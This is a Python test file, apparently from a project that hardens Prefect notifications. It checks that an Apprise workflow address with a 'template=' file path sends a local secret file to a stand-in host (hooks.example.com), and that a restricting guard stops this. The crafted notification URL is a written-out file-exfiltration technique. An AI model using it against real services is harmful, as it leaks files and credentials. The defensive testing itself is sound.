"""What the address of a notification can have a limited process do beside sending."""

import json
import subprocess
import sys
from pathlib import Path

ATTACK = """
import asyncio
import json
import sys
{first}
from apprise import Apprise
from apprise.plugins.workflows import NotifyWorkflows

secret, folder = sys.argv[1:]
sent = []
NotifyWorkflows.throttle = lambda *_, **__: None


class Session:
    @staticmethod
    def post(url, data, **_):
        sent.append(data if isinstance(data, str) else data.decode())
        raise OSError


import apprise.plugins.workflows as workflows
workflows.requests.post = Session.post
workflows.requests.RequestException = OSError
for path in (secret, "file://" + secret):
    sender = Apprise()
    sender.add(f"workflow://hooks.example.com/{{'a' * 32}}/{{'b' * 24}}?template={{path}}")
    sender.notify(title="t", body="b")
known = Apprise()
schemes = [
    scheme for scheme in ("syslog", "vapid", "dbus", "kde", "glib", "gnome", "macosx", "windows", "blink1", "json")
    if known.add(f"{{scheme}}://user@example.com/x?subfile={{folder}}/subscriptions.json")
]
print(json.dumps([sent, schemes]))
"""


def attack(tmp_path: Path, first: str) -> tuple[list[str], list[str]]:
    """What was sent of a file, and which schemes there are."""
    secret = tmp_path / "secret.json"
    card = {"type": "AdaptiveCard", "body": [{"type": "TextBlock", "text": "a secret"}]}
    attachment = {"contentType": "application/vnd.microsoft.card.adaptive", "content": card}
    secret.write_text(json.dumps({"type": "message", "attachments": [attachment]}))
    argv = [sys.executable, "-W", "ignore", "-c", ATTACK.format(first=first), str(secret), str(tmp_path)]
    done = subprocess.run(argv, capture_output=True, text=True, check=True, timeout=240)
    sent, schemes = json.loads(done.stdout.splitlines()[-1])
    return sent, schemes


def test_without_our_limits_a_template_sends_a_file_of_this_machine(tmp_path: Path) -> None:
    """What the attack does to Prefect's own server; where it fails there, it shows nothing about ours."""
    sent, schemes = attack(tmp_path, "")
    assert 2 == len([text for text in sent if "a secret" in text])
    assert {"vapid", "json"} <= set(schemes)


def test_a_limited_process_sends_no_file_and_knows_no_scheme_of_this_machine(tmp_path: Path) -> None:
    first = "from deployments.guarded.notifications import only_send\nonly_send()"
    sent, schemes = attack(tmp_path, first)
    assert [] == [text for text in sent if "a secret" in text]
    assert ["json"] == schemes
    assert ["secret.json"] == [path.name for path in tmp_path.iterdir()]
